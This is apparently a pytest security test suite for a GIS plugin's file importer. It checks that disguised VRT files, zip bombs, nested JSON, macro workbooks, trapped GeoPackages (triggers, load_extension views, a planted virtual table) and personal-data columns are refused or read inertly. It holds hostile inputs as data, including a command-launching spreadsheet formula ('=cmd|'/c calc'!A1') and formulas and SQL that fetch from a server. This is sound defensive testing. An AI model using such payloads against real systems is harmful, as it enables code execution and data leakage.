"""Files that want to read others, ask servers, fill the disk or run: imported as rows, or refused; nobody is asked."""

from __future__ import annotations

import json
import sqlite3
import zipfile
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Iterator

import pytest
from exports import HEAD, ROWS, csv_file, ogr_file, sheet_rows, workbook
from hostile import Hostile

from urban_data_workbench.plugin.bridge.file_reader import GdalFileReader
from urban_data_workbench.plugin.core.column_mapping import ColumnMapping
from urban_data_workbench.plugin.core.errors import BadReply, TooLarge, UrbanDataError
from urban_data_workbench.plugin.core.profile import Profile
from urban_data_workbench.plugin.services.import_memory import RememberedMappings
from urban_data_workbench.plugin.services.importing import Importing
from urban_data_workbench.plugin.store.working_copy import WorkingCopy

ENDINGS = ("csv", "txt", "tsv", "geojson", "json", "xlsx", "xlsm", "gpkg")
SOURCES = ("/vsicurl/{url}/a.csv", "/vsicurl_streaming/{url}/a.csv", "CSV:/vsicurl/{url}/a.csv", "WFS:{url}/wfs", "{local}")
SECRET = "hunter2"


@pytest.fixture
def server() -> Iterator[Hostile]:
    with Hostile() as found:
        yield found
        assert found.visits == [], "somebody was asked"


@pytest.fixture
def importing(tmp_path: Path) -> Importing:
    return Importing(GdalFileReader(), RememberedMappings(tmp_path / "kept" / "mappings.json"))


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.csv"
    path.write_text(f"title;text\n{SECRET};{SECRET}\n")
    return path


def vrt(source: str) -> str:
    return f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{source}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'


def outcome(importing: Importing, path: Path) -> str:
    """Look and read; what came of it in words."""
    try:
        looked = importing.look(path)
        return repr((looked, importing.read(path, looked.mapping)))
    except UrbanDataError as error:
        return repr(error)


@pytest.mark.parametrize("ending", ENDINGS)
@pytest.mark.parametrize("source", SOURCES)
def test_a_vrt_under_another_name_reads_no_file_and_asks_nobody(importing, tmp_path, server, secret, ending, source):
    path = tmp_path / f"a.{ending}"
    path.write_text(vrt(source.format(url=server.url, local=secret)), encoding="utf-8")
    with pytest.raises(UrbanDataError):
        importing.look(path)
    assert SECRET not in outcome(importing, path)


@pytest.mark.parametrize("ending", ENDINGS)
@pytest.mark.parametrize("text", ["/vsicurl/{url}/a.csv", "{url}/a.csv", "WFS:{url}/wfs", "MVT:{url}", "ESRIJSON:{url}/query"])
def test_a_file_that_is_an_address_asks_nobody(importing, tmp_path, server, ending, text):
    path = tmp_path / f"a.{ending}"
    path.write_text(text.format(url=server.url), encoding="utf-8")
    outcome(importing, path)


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_zip_under_another_name_asks_nobody(importing, tmp_path, server, secret, ending):
    path = tmp_path / f"a.{ending}"
    with zipfile.ZipFile(path, "w") as archive:
        for inner in ("a.vrt", "a.csv", "a.gpkg", "xl/workbook.xml", "doc.kml"):
            archive.writestr(inner, vrt(f"/vsicurl/{server.url}/a.csv"))
    with pytest.raises(UrbanDataError):
        importing.look(path)


def test_a_path_into_a_virtual_file_system_is_no_file(importing, server):
    for path in (f"/vsicurl/{server.url}/a.csv", f"/vsicurl/{server.url}/a.gpkg", f"/vsizip//vsicurl/{server.url}/a.zip/a.geojson"):
        with pytest.raises(UrbanDataError):
            importing.look(Path(path))


def test_a_geojson_that_names_addresses_asks_nobody(importing, tmp_path, server):
    path = tmp_path / "a.geojson"
    path.write_text(
        '{"type": "FeatureCollection", "crs": {"type": "link", "properties": {"href": "%s/crs", "type": "proj4", "name": "%s"}},'
        ' "features": [{"type": "Feature", "properties": {"titel": "A", "url": "%s/x"}, "geometry": {"type": "Point",'
        ' "coordinates": [11.5, 50.9]}}]}' % ((server.url,) * 3), encoding="utf-8",
    )
    assert importing.look(path).rows == 1


def test_the_zip_bomb_of_a_sheet_is_stopped_before_it_is_unpacked(importing, tmp_path):
    path = workbook(tmp_path / "a.xlsx", sheet_rows(("Titel",)), members=[("xl/media/zeros.bin", b"\x00" * 310_000_000)])
    assert path.stat().st_size < 1_000_000
    with pytest.raises(TooLarge):
        importing.look(path)


def test_a_zip_of_very_many_members_is_stopped(importing, tmp_path):
    path = workbook(tmp_path / "a.xlsx", sheet_rows(("Titel",)), members=[(f"xl/media/{number}", b"") for number in range(5001)])
    with pytest.raises(TooLarge):
        importing.look(path)


@pytest.mark.parametrize("far", ['<row r="1048576"><c r="A1048576" t="str"><v>B</v></c></row>', '<row r="3"><c r="XFD3" t="str"><v>B</v></c></row>'],
                         ids=["deep", "wide"])
def test_a_sheet_that_reaches_too_far_is_not_read_in_part(importing, tmp_path, far):
    with pytest.raises(BadReply):
        importing.look(workbook(tmp_path / "a.xlsx", sheet_rows(("Titel",), ("A",)) + far))


def test_a_million_columns_are_refused(importing, tmp_path):
    path = tmp_path / "a.csv"
    for count in (1_000_000, 1_001):
        path.write_text(";".join(f"c{number}" for number in range(count)) + "\n" + ";" * (count - 1), encoding="utf-8")
        with pytest.raises(TooLarge):
            importing.look(path)
    path.write_text(";".join(f"c{number}" for number in range(1_000)) + "\n" + "1;" * 999 + "1", encoding="utf-8")
    assert len(importing.look(path).columns) == 1_000


@pytest.mark.parametrize("cell", [
    "=cmd|'/c calc'!A1", '=HYPERLINK("{url}/x","y")', '=WEBSERVICE("{url}/x")', "+1+cmd|x", "-2+3", "@SUM(1)", "\t=1",
    '=IMPORTXML("{url}","//a")',
])
def test_cells_that_begin_as_formulas_stay_the_text_they_are(importing, tmp_path, server, cell):
    text = cell.format(url=server.url)
    quoted = '"' + text.replace('"', '""') + '"'
    path = csv_file(tmp_path, ("Titel", "Text"), [(quoted, "x")])
    (feature,) = importing.read(path, ColumnMapping({"title": "Titel"}, "p", "P")).features
    assert feature.properties["title"] == text.strip()


def test_of_a_formula_in_a_sheet_the_value_is_read_and_nothing_computed(importing, tmp_path, server):
    formula = f'<c r="B2" t="str"><f>WEBSERVICE("{server.url}/x")</f><v>gesehen</v></c>'
    path = workbook(tmp_path / "a.xlsx", sheet_rows(("Titel", "Text"), ("A", formula)))
    (feature,) = importing.read(path, ColumnMapping({"title": "Titel", "text": "Text"}, "p", "P")).features
    assert feature.properties["text"] == "gesehen"


@pytest.mark.parametrize("name", ["a.xlsm", "a.xlsx"])
def test_of_a_sheet_with_macros_only_cells_are_read(importing, tmp_path, server, name):
    link = f'<Relationships><Relationship Id="r9" Type="external" TargetMode="External" Target="{server.url}/remote.xlsx"/></Relationships>'
    macros = [("xl/vbaProject.bin", b"Attribut VB_Name AutoOpen MACRO"), ("xl/externalLinks/_rels/e.xml.rels", link.encode())]
    path = workbook(tmp_path / name, sheet_rows(("Titel", "Text"), ("A", "B")), members=macros)
    target = tmp_path / "copy.gpkg"
    with WorkingCopy.create(target, profile=Profile("P"), title="P") as copy:
        assert importing.take(copy, path, ColumnMapping({"title": "Titel"}, "p", "P")).got == 1
    assert b"AutoOpen" not in target.read_bytes()


def trapped(folder: Path, url: str) -> Path:
    """A GeoPackage with form code, actions, remote pictures, a project and triggers."""
    path = ogr_file(folder, "GPKG", "beitraege.gpkg")
    style = ('<qgis><editforminitcode>import os</editforminitcode><editforminitcodesource>2</editforminitcodesource>'
             f'<attributeactions><actionsetting type="1" action="print(1)"/></attributeactions><prop k="name" v="{url}/a.svg"/></qgis>')
    with closing(sqlite3.connect(path)) as file:
        file.execute("CREATE TABLE layer_styles (id INTEGER PRIMARY KEY, f_table_name TEXT, styleName TEXT, styleQML TEXT, useAsDefault BOOLEAN)")
        file.execute("INSERT INTO layer_styles VALUES (1, 'beitraege', 'x', ?, 1)", (style,))
        file.execute("CREATE TABLE qgis_projects (name TEXT PRIMARY KEY, metadata BLOB, content BLOB)")
        file.execute("INSERT INTO qgis_projects VALUES ('evil_project', '{}', ?)", (style.encode(),))
        file.execute("CREATE TRIGGER evil_trigger AFTER INSERT ON beitraege BEGIN DELETE FROM beitraege; END")
        file.commit()
    return path


def calling_out(folder: Path, url: str) -> Path:
    """A GeoPackage with views and a virtual table that call out."""
    path = trapped(folder, url)
    with closing(sqlite3.connect(path)) as file:
        for number, call in enumerate((f"load_extension('{url}')", f"ogr_datasource_load_layers('/vsicurl/{url}/a.csv')")):
            file.execute(f"CREATE VIEW evil_view{number} AS SELECT 1 AS fid, {call} AS x")
            file.execute("INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES (?, 'attributes', ?)",
                         (f"evil_view{number}", f"evil_view{number}"))
        file.execute("PRAGMA writable_schema = 1")
        statement = f"CREATE VIRTUAL TABLE evil_table USING VirtualOGR('/vsicurl/{url}/a.csv', 1)"
        file.execute("INSERT INTO sqlite_master VALUES ('table', 'evil_table', 'evil_table', 0, ?)", (statement,))
        file.execute("INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('evil_table', 'attributes', 'evil_table')")
        file.commit()
    return path


def test_of_a_geopackage_with_traps_only_rows_are_taken(importing, tmp_path, server):
    path = trapped(tmp_path, server.url)
    looked = importing.look(path)
    assert looked.rows == 3 and "layer_styles" not in looked.layers and "qgis_projects" not in looked.layers
    target = tmp_path / "copy.gpkg"
    with WorkingCopy.create(target, profile=Profile("P"), title="P") as copy:
        importing.take(copy, path, looked.mapping)
    kept = target.read_bytes()
    traps = ("editforminitcode", "actionsetting", "evil_", server.url)
    assert b"Radweg" in kept and not [trap for trap in traps if trap.encode() in kept]
    with closing(sqlite3.connect(target)) as file:
        assert not {"layer_styles", "qgis_projects"} & {name for (name,) in file.execute("SELECT name FROM sqlite_master")}


@pytest.mark.parametrize("layer", ["evil_view0", "evil_view1", "evil_table"])
def test_a_view_that_calls_out_gives_nothing_and_asks_nobody(importing, tmp_path, server, layer):
    from urban_data_workbench.plugin.core.file_reading import Reading

    path = calling_out(tmp_path, server.url)
    before = path.read_bytes()
    try:
        importing.look(path, reading=Reading(layer=layer))
    except UrbanDataError as error:
        assert error.code
    assert path.read_bytes() == before, "the file itself is only read"


def test_rows_that_another_program_has_not_settled_yet_come_along(importing, tmp_path):
    path = ogr_file(tmp_path, "GPKG", "beitraege.gpkg")
    with closing(sqlite3.connect(path)) as file:
        file.execute("PRAGMA journal_mode = WAL")
        for (name,) in file.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            file.execute(f'DROP TRIGGER "{name}"')
        file.execute("INSERT INTO beitraege (\"Titel\") VALUES ('noch im Protokoll')")
        file.commit()
        assert importing.look(path).rows == len(ROWS) + 1


@pytest.mark.parametrize("column", ["E-Mail", "Telefon privat", "Vorname", "Autor", "Geburtsdatum", "IP-Adresse", "device_id"])
def test_a_column_that_holds_persons_becomes_nothing_whoever_says_so(importing, tmp_path, column):
    path = csv_file(tmp_path, ("Nr", column), [("1", "x")])
    with pytest.raises(UrbanDataError):
        importing.read(path, ColumnMapping({"title": column}, "p", "P"))


def test_addresses_and_telephones_are_found_under_any_name(importing, tmp_path):
    rows = [("A", "a@example.org", "0361 1234567", "2024", "05911000", "02/03/2026", "0900-1700"),
            ("B", "b@example.org", "+49 171 1234567", "2025", "16053000", "01.02.2026", "0800-1800")]
    path = csv_file(tmp_path, ("Titel", "Kontakt", "Rückfragen", "Jahr", "Schlüssel", "Tag", "Zeit"), rows)
    looked = importing.look(path)
    assert looked.persons == ("Kontakt", "Rückfragen")
    for column in looked.persons:
        with pytest.raises(UrbanDataError):
            importing.read(path, ColumnMapping({"title": column}, "p", "P"))


def test_words_about_mobility_hold_nobody(importing, tmp_path):
    looked = importing.look(csv_file(tmp_path, ("Titel", "Mobilität", "Mobilitätsart"), [("A", "Rad", "Rad")]))
    assert looked.persons == looked.maybe_persons == ()


def test_a_remembered_mapping_cannot_be_planted_to_take_persons(importing, tmp_path):
    path = csv_file(tmp_path)
    RememberedMappings(tmp_path / "kept" / "mappings.json").keep(HEAD, ColumnMapping({"title": "E-Mail"}, "p", "P"))
    looked = importing.look(path)
    assert not looked.remembered and "E-Mail" not in looked.mapping.columns.values()


@pytest.mark.parametrize("count", [1_001, 20_000])
def test_geojson_with_a_column_for_each_object_is_refused(importing, tmp_path, count):
    features = [{"type": "Feature", "geometry": None, "properties": {f"c{number}": 1}} for number in range(count)]
    path = tmp_path / "a.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    with pytest.raises(TooLarge):
        importing.look(path)


@pytest.mark.parametrize("text", ["[" * 200_000, '{"type":"FeatureCollection","features":' + "[" * 200_000, '{"a":' * 100_000])
def test_json_without_bottom_is_refused(importing, tmp_path, text):
    path = tmp_path / "a.geojson"
    path.write_text(text)
    with pytest.raises(BadReply):
        importing.look(path)


def test_a_cell_that_holds_a_book_is_shown_in_part_and_taken_whole(importing, tmp_path):
    book = "Wort " * 400_000
    path = tmp_path / "a.geojson"
    path.write_text(json.dumps({"type": "Feature", "geometry": None, "properties": {"titel": "A", "text": book}}))
    looked = importing.look(path)
    assert len(str(looked.sample[0][1])) == 500
    assert importing.read(path, replace(looked.mapping, plain=True)).features[0].properties["text"] == book
